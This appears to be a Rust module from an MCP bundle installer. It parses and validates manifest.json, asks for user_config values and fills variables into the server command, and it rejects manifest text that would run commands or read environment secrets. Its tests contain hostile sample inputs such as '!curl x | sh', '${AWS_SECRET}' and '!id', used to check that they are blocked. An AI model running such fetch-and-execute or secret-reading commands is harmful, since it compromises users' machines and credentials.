//! A bundle's `manifest.json` (MCPB manifest 0.1 to 0.4): read into typed values and checked
//! (every rule broken named), its `user_config` as questions, and its `mcp_config` with the
//! platform's override and the variables filled in (`${__dirname}`, `${user_config.KEY}`,
//! `${HOME}`, `${DESKTOP}`, `${DOCUMENTS}`, `${DOWNLOADS}`, `${pathSeparator}`, `${/}`), as the
//! format's own client fills them: one pass, an argument that is exactly a `multiple` value's
//! variable becoming one argument per value.

use std::collections::BTreeMap;
use std::path::Path;

use serde::Deserialize;
use serde_json::Value;

use crate::install::{Asked, Question};

/// The manifest versions read.
const VERSIONS: &[&str] = &["0.1", "0.2", "0.3", "0.4"];

#[derive(Debug, Clone, Deserialize)]
pub(crate) struct Manifest {
    #[serde(default)]
    manifest_version: Option<String>,
    #[serde(default)]
    dxt_version: Option<String>,
    pub name: String,
    pub version: String,
    pub description: String,
    #[serde(default)]
    pub display_name: Option<String>,
    pub author: Author,
    pub server: Server,
    #[serde(default)]
    pub compatibility: Option<Compatibility>,
    #[serde(default)]
    pub user_config: BTreeMap<String, UserConfig>,
}

#[derive(Debug, Clone, Deserialize)]
pub(crate) struct Author {
    pub name: String,
}

#[derive(Debug, Clone, Deserialize)]
pub(crate) struct Server {
    #[serde(rename = "type")]
    pub kind: String,
    pub entry_point: String,
    #[serde(default)]
    pub mcp_config: Option<McpConfig>,
}

#[derive(Debug, Clone, Default, Deserialize)]
pub(crate) struct McpConfig {
    #[serde(default)]
    pub command: Option<String>,
    #[serde(default)]
    pub args: Option<Vec<String>>,
    #[serde(default)]
    pub env: Option<BTreeMap<String, String>>,
    #[serde(default)]
    pub platform_overrides: BTreeMap<String, McpConfig>,
}

#[derive(Debug, Clone, Deserialize)]
pub(crate) struct Compatibility {
    #[serde(default)]
    pub platforms: Option<Vec<String>>,
    #[serde(default)]
    pub runtimes: BTreeMap<String, String>,
}

#[derive(Debug, Clone, Deserialize)]
pub(crate) struct UserConfig {
    #[serde(rename = "type")]
    pub kind: String,
    pub title: String,
    pub description: String,
    #[serde(default)]
    pub required: bool,
    #[serde(default)]
    pub default: Option<Value>,
    #[serde(default)]
    pub multiple: bool,
    #[serde(default)]
    pub sensitive: bool,
    #[serde(default)]
    pub min: Option<f64>,
    #[serde(default)]
    pub max: Option<f64>,
}

/// The platform's name as manifests write it (Node's `process.platform`).
pub(crate) fn platform() -> &'static str {
    match std::env::consts::OS {
        "macos" => "darwin",
        "windows" => "win32",
        other => other,
    }
}

impl Manifest {
    /// Reads and checks a manifest; every rule broken, named.
    pub(crate) fn parse(text: &str) -> Result<Manifest, String> {
        let manifest: Manifest =
            serde_json::from_str(text).map_err(|e| format!("manifest.json: {e}"))?;
        let mut problems = Vec::new();
        let version = manifest
            .manifest_version
            .as_deref()
            .or(manifest.dxt_version.as_deref());
        match version {
            Some(v) if VERSIONS.contains(&v) => {
                if let (Some(a), Some(b)) = (&manifest.manifest_version, &manifest.dxt_version) {
                    if a != b {
                        problems.push(format!("manifest_version {a} and dxt_version {b} disagree"));
                    }
                }
            }
            Some(v) => problems.push(format!(
                "manifest_version {v:?} is not one this reads ({})",
                VERSIONS.join(", ")
            )),
            None => problems.push("manifest_version is missing".into()),
        }
        let version = version.unwrap_or("0.1");
        if manifest.name.trim().is_empty() {
            problems.push("name is empty".into());
        }
        if manifest.version.trim().is_empty() {
            problems.push("version is empty".into());
        }
        let kinds: &[&str] = if version == "0.4" {
            &["node", "python", "binary", "uv"]
        } else {
            &["node", "python", "binary"]
        };
        if !kinds.contains(&manifest.server.kind.as_str()) {
            problems.push(format!(
                "server.type {:?} is not one of {} (manifest {version})",
                manifest.server.kind,
                kinds.join(", ")
            ));
        }
        match &manifest.server.mcp_config {
            None if manifest.server.kind != "uv" => {
                problems.push("server.mcp_config is missing".into())
            }
            Some(c) if c.command.as_deref().is_none_or(str::is_empty) => {
                problems.push("server.mcp_config.command is missing".into())
            }
            _ => {}
        }
        if manifest.server.entry_point.is_empty() {
            problems.push("server.entry_point is empty".into());
        }
        for (key, option) in &manifest.user_config {
            if !matches!(
                option.kind.as_str(),
                "string" | "number" | "boolean" | "directory" | "file"
            ) {
                problems.push(format!(
                    "user_config.{key}.type {:?} is not string, number, boolean, directory or file",
                    option.kind
                ));
            }
        }
        if let Some(platforms) = manifest
            .compatibility
            .as_ref()
            .and_then(|c| c.platforms.as_ref())
        {
            for p in platforms {
                if !matches!(p.as_str(), "darwin" | "win32" | "linux") {
                    problems.push(format!(
                        "compatibility.platforms has {p:?} (darwin, win32, linux)"
                    ));
                }
            }
        }
        if problems.is_empty() {
            Ok(manifest)
        } else {
            Err(format!("manifest.json: {}", problems.join("; ")))
        }
    }

    /// What its `user_config` asks, in key order (`user_config:KEY`).
    pub(crate) fn questions(&self, home: &Path) -> Vec<Question> {
        (self.user_config.iter())
            .map(|(key, option)| Question {
                key: format!("user_config:{key}"),
                asked: Asked::UserConfig,
                name: key.clone(),
                description: Some(format!("{}: {}", option.title, option.description)),
                required: option.required,
                secret: option.sensitive,
                default: option
                    .default
                    .as_ref()
                    .map(|d| fill_system(&text_of(d), home)),
                placeholder: None,
                choices: Vec::new(),
                format: match option.kind.as_str() {
                    "file" => "filepath".to_owned(),
                    other => other.to_owned(),
                },
                repeated: option.multiple,
            })
            .collect()
    }

    /// The values of its `user_config` from `answers` (by key, without the `user_config:`
    /// prefix; a `multiple` one's lines are its values), defaults where unanswered, each
    /// checked; or every problem.
    pub(crate) fn values(
        &self,
        answers: &BTreeMap<String, String>,
        home: &Path,
    ) -> Result<BTreeMap<String, Vec<String>>, Vec<String>> {
        let mut values = BTreeMap::new();
        let mut problems = Vec::new();
        for q in self.questions(home) {
            let option = &self.user_config[&q.name];
            let given = answers.get(&q.key).filter(|a| !a.is_empty()).cloned();
            let answered = given.is_some();
            let Some(text) = given.or(q.default.clone()) else {
                if q.required {
                    problems.push(format!("{} ({}) is required", q.key, option.title));
                }
                continue;
            };
            // A default is the author's text: it must not make the config run a command or
            // read the user's environment (the user's own answer may do either).
            if !answered {
                if let Some(why) = publisher_problem(&text) {
                    problems.push(format!("the default of {} {why}", q.key));
                    continue;
                }
            }
            let list: Vec<String> = if option.multiple {
                text.lines()
                    .map(str::to_owned)
                    .filter(|l| !l.is_empty())
                    .collect()
            } else {
                vec![text]
            };
            // A secret's value is never repeated in a message.
            let shown = |value: &str| match option.sensitive {
                true => "(hidden)".to_owned(),
                false => format!("{value:?}"),
            };
            for value in &list {
                if value.starts_with("${") || value.starts_with('!') {
                    continue;
                }
                match option.kind.as_str() {
                    "number" => match value.parse::<f64>() {
                        Ok(n) if option.min.is_some_and(|m| n < m) => problems.push(format!(
                            "{}: {} is below {}",
                            q.key,
                            shown(value),
                            option.min.unwrap_or_default()
                        )),
                        Ok(n) if option.max.is_some_and(|m| n > m) => problems.push(format!(
                            "{}: {} is above {}",
                            q.key,
                            shown(value),
                            option.max.unwrap_or_default()
                        )),
                        Ok(_) => {}
                        Err(_) => {
                            problems.push(format!("{}: {} is not a number", q.key, shown(value)))
                        }
                    },
                    "boolean" if !matches!(value.as_str(), "true" | "false") => {
                        problems.push(format!("{}: {} is not true or false", q.key, shown(value)))
                    }
                    _ => {}
                }
            }
            if list.is_empty() && q.required {
                problems.push(format!("{} ({}) is required", q.key, option.title));
            }
            values.insert(q.name.clone(), list);
        }
        if problems.is_empty() {
            Ok(values)
        } else {
            Err(problems)
        }
    }

    /// What runs it from `dir`, with `values` (from [`Manifest::values`]) and the platform's
    /// override applied; or every problem: the manifest's own text may not make the config
    /// run a command (an environment value `!...`), read the user's environment (a `${NAME}`
    /// that is none of its variables, or an environment value that is the name of one of the
    /// user's environment variables, which a config reads as that variable) or leave a
    /// variable unfilled.
    pub(crate) fn command(
        &self,
        dir: &Path,
        values: &BTreeMap<String, Vec<String>>,
        home: &Path,
    ) -> Result<Filled, Vec<String>> {
        let base = self.server.mcp_config.clone().unwrap_or_else(|| McpConfig {
            // A uv server without an mcp_config: uv runs its entry point in its project.
            command: Some("uv".into()),
            args: Some(vec![
                "run".into(),
                "--directory".into(),
                "${__dirname}".into(),
                self.server.entry_point.clone(),
            ]),
            ..McpConfig::default()
        });
        // An override replaces what it names (no merge), as the format's client does.
        let chosen = base.platform_overrides.get(platform());
        let command = (chosen.and_then(|c| c.command.clone()))
            .filter(|c| !c.is_empty())
            .or_else(|| base.command.clone())
            .unwrap_or_default();
        let args = (chosen.and_then(|c| c.args.clone()))
            .or_else(|| base.args.clone())
            .unwrap_or_default();
        let env = (chosen.and_then(|c| c.env.clone()))
            .or_else(|| base.env.clone())
            .unwrap_or_default();

        let separator = std::path::MAIN_SEPARATOR.to_string();
        let mut vars: Vec<(String, Vec<String>)> = vec![
            ("__dirname".into(), vec![dir.display().to_string()]),
            ("pathSeparator".into(), vec![separator.clone()]),
            ("/".into(), vec![separator]),
        ];
        for (name, path) in system_dirs(home) {
            vars.push((name.to_owned(), vec![path]));
        }
        for (key, list) in values {
            vars.push((format!("user_config.{key}"), list.clone()));
        }
        let mut problems = Vec::new();
        let mut warnings = Vec::new();
        // The author's text, with every variable's value left out: what remains is theirs.
        let theirs = |template: &str| {
            let blanks: Vec<(String, Vec<String>)> =
                vars.iter().map(|(n, _)| (n.clone(), Vec::new())).collect();
            fill(template, &blanks)
        };
        let unknown = |template: &str, what: &str| {
            theirs(template).contains("${").then(|| {
                format!(
                    "{what} uses a ${{...}} that is none of its variables (it would be read from \
                     the user's environment)"
                )
            })
        };
        problems.extend(unknown(&command, "server.mcp_config.command"));
        for arg in &args {
            problems.extend(unknown(arg, "server.mcp_config.args"));
        }
        for (key, template) in &env {
            problems.extend(unknown(template, &format!("server.mcp_config.env.{key}")));
            if template.starts_with('!') {
                problems.push(format!(
                    "server.mcp_config.env.{key} is a command (!...), which would run on this \
                     machine"
                ));
            } else if !template.contains("${") && std::env::var_os(template).is_some() {
                problems.push(format!(
                    "server.mcp_config.env.{key} is the name of one of your environment \
                     variables, which a config reads as its value"
                ));
            }
        }
        // A secret on the command line is shown there and seen by other processes.
        for (key, option) in &self.user_config {
            let variable = format!("${{user_config.{key}}}");
            if option.sensitive && args.iter().chain([&command]).any(|a| a.contains(&variable)) {
                warnings.push(format!(
                    "the secret user_config:{key} goes on the server's command line, which \
                     this display and other processes on this machine show"
                ));
            }
        }
        if !problems.is_empty() {
            return Err(problems);
        }
        let fill = |text: &str| fill(text, &vars);
        let mut out_args = Vec::new();
        for arg in &args {
            // An argument that is exactly a setting's variable is its values, one argument
            // each (none for an empty list).
            let whole = (arg.strip_prefix("${").and_then(|a| a.strip_suffix('}')))
                .and_then(|name| vars.iter().find(|(n, _)| n == name))
                .filter(|(n, _)| n.starts_with("user_config."));
            match whole {
                Some((_, list)) => out_args.extend(list.iter().cloned()),
                None => out_args.push(fill(arg)),
            }
        }
        let env = env.iter().map(|(k, v)| (k.clone(), fill(v))).collect();
        Ok(Filled {
            command: fill(&command),
            args: out_args,
            env,
            warnings,
        })
    }
}

/// What runs a bundle.
#[derive(Debug)]
pub(crate) struct Filled {
    pub command: String,
    pub args: Vec<String>,
    pub env: BTreeMap<String, String>,
    /// What to tell the user before they approve it.
    pub warnings: Vec<String>,
}

/// Why an author's value may not go into a config as it is: a command (`!...`), or a
/// `${NAME}` (read from the user's environment when the config is read).
fn publisher_problem(text: &str) -> Option<&'static str> {
    if text.starts_with('!') {
        Some("is a command (!...), which would run on this machine")
    } else if text.contains("${") {
        Some("reads the user's environment (${...})")
    } else {
        None
    }
}

/// A default's text (a list's items one per line).
fn text_of(value: &Value) -> String {
    match value {
        Value::String(s) => s.clone(),
        Value::Array(items) => items.iter().map(text_of).collect::<Vec<_>>().join("\n"),
        other => other.to_string(),
    }
}

/// The user's folders a manifest names.
fn system_dirs(home: &Path) -> [(&'static str, String); 4] {
    let at = |sub: &str| home.join(sub).display().to_string();
    [
        ("HOME", home.display().to_string()),
        ("DESKTOP", at("Desktop")),
        ("DOCUMENTS", at("Documents")),
        ("DOWNLOADS", at("Downloads")),
    ]
}

/// A default with the user's folders filled in.
fn fill_system(text: &str, home: &Path) -> String {
    let vars: Vec<(String, Vec<String>)> = system_dirs(home)
        .into_iter()
        .map(|(n, p)| (n.to_owned(), vec![p]))
        .collect();
    fill(text, &vars)
}

/// `${NAME}` replaced by its value, in one pass from the left (a value is never filled
/// again); a list inside a longer text is its items joined by spaces; an unknown name stays.
fn fill(text: &str, vars: &[(String, Vec<String>)]) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("${") {
        out.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        match after.find('}') {
            Some(end) => {
                let name = &after[..end];
                match vars.iter().find(|(n, _)| n == name) {
                    Some((_, values)) => out.push_str(&values.join(" ")),
                    None => out.push_str(&rest[start..start + 3 + end]),
                }
                rest = &after[end + 1..];
            }
            None => {
                out.push_str(&rest[start..]);
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const FILESYSTEM: &str = r#"{
      "manifest_version": "0.3",
      "name": "filesystem",
      "version": "1.2.0",
      "description": "Files",
      "author": {"name": "Someone"},
      "server": {
        "type": "node",
        "entry_point": "server/index.js",
        "mcp_config": {
          "command": "node",
          "args": ["${__dirname}/server/index.js", "--root=${HOME}", "${user_config.dirs}"],
          "env": {"TOKEN": "${user_config.token}", "SEP": "${/}"},
          "platform_overrides": {"win32": {"command": "node.exe"}}
        }
      },
      "user_config": {
        "dirs": {"type": "directory", "title": "Folders", "description": "Where", "multiple": true,
                 "required": true, "default": ["${HOME}/Desktop"]},
        "token": {"type": "string", "title": "Token", "description": "A key", "sensitive": true},
        "depth": {"type": "number", "title": "Depth", "description": "How deep", "min": 1, "max": 5}
      },
      "compatibility": {"platforms": ["darwin", "linux", "win32"], "runtimes": {"node": ">=18"}}
    }"#;

    #[test]
    fn a_manifest_asks_its_user_config_and_fills_its_command() {
        let manifest = Manifest::parse(FILESYSTEM).unwrap();
        let home = Path::new("/home/u");
        let questions = manifest.questions(home);
        let keys: Vec<&str> = questions.iter().map(|q| q.key.as_str()).collect();
        assert_eq!(
            keys,
            ["user_config:depth", "user_config:dirs", "user_config:token"]
        );
        assert!(questions[1].repeated && questions[1].required);
        assert_eq!(questions[1].default.as_deref(), Some("/home/u/Desktop"));
        assert!(questions[2].secret);

        let answers = BTreeMap::from([
            ("user_config:dirs".to_owned(), "/a\n/b c".to_owned()),
            ("user_config:token".to_owned(), "${MY_TOKEN}".to_owned()),
        ]);
        let values = manifest.values(&answers, home).unwrap();
        let filled = manifest.command(Path::new("/b/fs"), &values, home).unwrap();
        let (command, args, env) = (filled.command, filled.args, filled.env);
        let separator = std::path::MAIN_SEPARATOR.to_string();
        if platform() != "win32" {
            assert_eq!(command, "node");
        }
        assert_eq!(
            args,
            ["/b/fs/server/index.js", "--root=/home/u", "/a", "/b c"]
        );
        assert_eq!(env["TOKEN"], "${MY_TOKEN}");
        assert_eq!(env["SEP"], separator);

        // The default where nothing is answered; a number out of its range.
        let values = manifest.values(&BTreeMap::new(), home).unwrap();
        assert_eq!(values["dirs"], ["/home/u/Desktop"]);
        let bad = BTreeMap::from([("user_config:depth".to_owned(), "9".to_owned())]);
        assert!(manifest.values(&bad, home).unwrap_err()[0].contains("above"));
    }

    #[test]
    fn every_broken_rule_is_named() {
        let e = Manifest::parse(
            r#"{"manifest_version": "0.9", "name": "", "version": "1", "description": "d",
                "author": {"name": "a"},
                "server": {"type": "uv", "entry_point": "x.py"},
                "user_config": {"k": {"type": "color", "title": "t", "description": "d"}},
                "compatibility": {"platforms": ["beos"]}}"#,
        )
        .unwrap_err();
        for part in [
            "0.9",
            "name is empty",
            "server.type \"uv\"",
            "color",
            "beos",
        ] {
            assert!(e.contains(part), "{part}: {e}");
        }
        // 0.4 knows uv, and runs it without an mcp_config.
        let uv = Manifest::parse(
            r#"{"manifest_version": "0.4", "name": "hello", "version": "1.0.0",
                "description": "d", "author": {"name": "a"},
                "server": {"type": "uv", "entry_point": "src/server.py"}}"#,
        )
        .unwrap();
        let filled = uv
            .command(Path::new("/b/h"), &BTreeMap::new(), Path::new("/h"))
            .unwrap();
        assert_eq!(filled.command, "uv");
        assert_eq!(filled.args, ["run", "--directory", "/b/h", "src/server.py"]);
        assert!(Manifest::parse("{}").is_err());
        assert!(Manifest::parse("[").is_err());
    }

    #[test]
    fn the_authors_text_may_not_run_a_command_or_read_the_environment() {
        let with = |config: &str, options: &str| {
            Manifest::parse(&format!(
                r#"{{"manifest_version": "0.3", "name": "x", "version": "1", "description": "d",
                    "author": {{"name": "a"}},
                    "server": {{"type": "node", "entry_point": "i.js", "mcp_config": {config}}},
                    "user_config": {{{options}}}}}"#
            ))
            .unwrap()
        };
        let home = Path::new("/h");
        let problems = |m: &Manifest| {
            let values = m.values(&BTreeMap::new(), home)?;
            m.command(Path::new("/b"), &values, home).map(|_| ())
        };
        let e = problems(&with(
            r#"{"command": "node", "env": {"A": "!curl x | sh"}}"#,
            "",
        ))
        .unwrap_err();
        assert!(e[0].contains("is a command"), "{e:?}");
        let e = problems(&with(
            r#"{"command": "node", "args": ["${AWS_SECRET}"]}"#,
            "",
        ))
        .unwrap_err();
        assert!(e[0].contains("none of its variables"), "{e:?}");
        let e = problems(&with(r#"{"command": "node", "env": {"A": "PATH"}}"#, "")).unwrap_err();
        assert!(
            e[0].contains("name of one of your environment variables"),
            "{e:?}"
        );
        let default =
            r#""k": {"type": "string", "title": "K", "description": "d", "default": "!id"}"#;
        let e = problems(&with(
            r#"{"command": "node", "env": {"A": "${user_config.k}"}}"#,
            default,
        ))
        .unwrap_err();
        assert!(
            e[0].contains("the default of user_config:k is a command"),
            "{e:?}"
        );
        // The user's own answer may be a reference.
        let m = with(
            r#"{"command": "node", "env": {"A": "${user_config.k}"}}"#,
            default,
        );
        let answers = BTreeMap::from([("user_config:k".to_owned(), "${MY_K}".to_owned())]);
        let values = m.values(&answers, home).unwrap();
        assert_eq!(
            m.command(Path::new("/b"), &values, home).unwrap().env["A"],
            "${MY_K}"
        );
        // A secret on the command line is warned of; a secret's value is never in a message.
        let secret = r#""n": {"type": "number", "title": "N", "description": "d", "sensitive": true, "max": 3}"#;
        let m = with(
            r#"{"command": "node", "args": ["--n", "${user_config.n}"]}"#,
            secret,
        );
        let bad = BTreeMap::from([("user_config:n".to_owned(), "31337".to_owned())]);
        let e = m.values(&bad, home).unwrap_err();
        assert!(
            !e[0].contains("31337") && e[0].contains("(hidden)"),
            "{e:?}"
        );
        let ok = BTreeMap::from([("user_config:n".to_owned(), "2".to_owned())]);
        let values = m.values(&ok, home).unwrap();
        let filled = m.command(Path::new("/b"), &values, home).unwrap();
        assert!(
            filled.warnings[0].contains("command line"),
            "{:?}",
            filled.warnings
        );
        // An empty list is no argument at all.
        let dirs =
            r#""d": {"type": "directory", "title": "D", "description": "d", "multiple": true}"#;
        let m = with(
            r#"{"command": "node", "args": ["i.js", "${user_config.d}"]}"#,
            dirs,
        );
        let empty = BTreeMap::from([("user_config:d".to_owned(), "\n".to_owned())]);
        let values = m.values(&empty, home).unwrap();
        assert_eq!(
            m.command(Path::new("/b"), &values, home).unwrap().args,
            ["i.js"]
        );
    }

    #[test]
    fn filling_is_one_pass_and_leaves_unknown_names() {
        let vars = vec![
            ("A".to_owned(), vec!["${B}".to_owned()]),
            ("B".to_owned(), vec!["b".to_owned()]),
        ];
        assert_eq!(fill("x${A}y${C}z${", &vars), "x${B}y${C}z${");
    }
}
